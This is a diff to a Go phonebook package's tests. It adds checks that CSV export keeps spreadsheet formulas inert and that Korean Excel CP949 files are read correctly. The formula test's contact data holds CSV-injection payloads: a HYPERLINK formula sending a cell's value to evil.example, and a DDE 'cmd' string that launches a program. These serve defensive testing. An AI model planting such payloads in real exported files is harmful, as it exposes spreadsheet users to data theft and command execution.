@@ -2,12 +2,14 @@ package phonebook
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"flag"
 	"io"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"testing/iotest"
@@ -178,6 +180,50 @@ func TestCSV_RoundTrip(t *testing.T) {
 	assert.Equal(t, []Contact{want, {Name: "a"}}, got)
 }
 
+// What a spreadsheet would run as a formula is text to it, and comes back; a
+// telephone number stays one to every program.
+func TestCSV_FormulasAreText(t *testing.T) {
+	given := []Contact{
+		{
+			Name: `=HYPERLINK("http://evil.example?"&B2,"click")`, Category: "@SUM(1)", Road: "-1+cmd|' /C calc'!A0", POI: "'=1",
+			Entries: []Entry{{Label: Mobile, Number: "+82 10-1234-5678"}, {Label: UserDefined, Text: "+shop", Number: "+1 (212) 555-1234"}},
+			Hours:   Hours{Info: "+9 to 5"},
+		},
+		{Name: "'t Hooft", Entries: []Entry{{Number: "+82;ext=5"}}},
+	}
+	var buf bytes.Buffer
+	require.NoError(t, WriteCSV(&buf, given))
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), bom))).ReadAll()
+	require.NoError(t, err)
+	var phones []string
+	for _, cell := range slices.Concat(rows[1:]...) {
+		if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
+			continue
+		}
+		phones = append(phones, cell)
+	}
+	assert.Equal(t, []string{"+82 10-1234-5678", "+1 (212) 555-1234"}, phones)
+	got, problems, err := ReadCSV(&buf)
+	require.NoError(t, err)
+	assert.Empty(t, problems)
+	for i := range given {
+		require.NoError(t, given[i].clean())
+	}
+	assert.Equal(t, given, got)
+}
+
+// Korean Excel writes "CSV (comma delimited)" in CP949.
+func TestCSV_KoreanExcel(t *testing.T) {
+	const text = "\xc0\xcc\xb8\xa7,\xc8\xde\xb4\xeb\xc6\xf9\r\n\xb1\xe8\xb9\xce\xbc\xf6,+82 10-1234-5678\r\n"
+	got, problems, format, err := Read(strings.NewReader(text))
+	require.NoError(t, err)
+	assert.Equal(t, FormatCSV, format)
+	require.Len(t, problems, 1)
+	assert.Equal(t, Changed, problems[0].Kind)
+	assert.Contains(t, problems[0].Text, "CP949")
+	assert.Equal(t, []Contact{{Name: "김민수", Entries: []Entry{{Label: Mobile, Number: "+82 10-1234-5678"}}}}, got)
+}
+
 // Whatever a contact holds comes back from either format.
 func TestWrite_RoundTripOfAnything(t *testing.T) {
 	b, _ := newBook(t)
@@ -241,6 +287,7 @@ func FuzzReadVCard(f *testing.F) {
 func FuzzReadCSV(f *testing.F) {
 	fuzzSeeds(f, ".csv")
 	f.Add([]byte("Name,Number 1\na,\"\n"))
+	f.Add([]byte("\xc0\xcc\xb8\xa7,\xc8\xde\xb4\xeb\xc6\xf9\n\xb1\xe8,'+1;=2\n"))
 	f.Fuzz(func(t *testing.T, b []byte) { checkRead(t, b, ReadCSV) })
 }
 
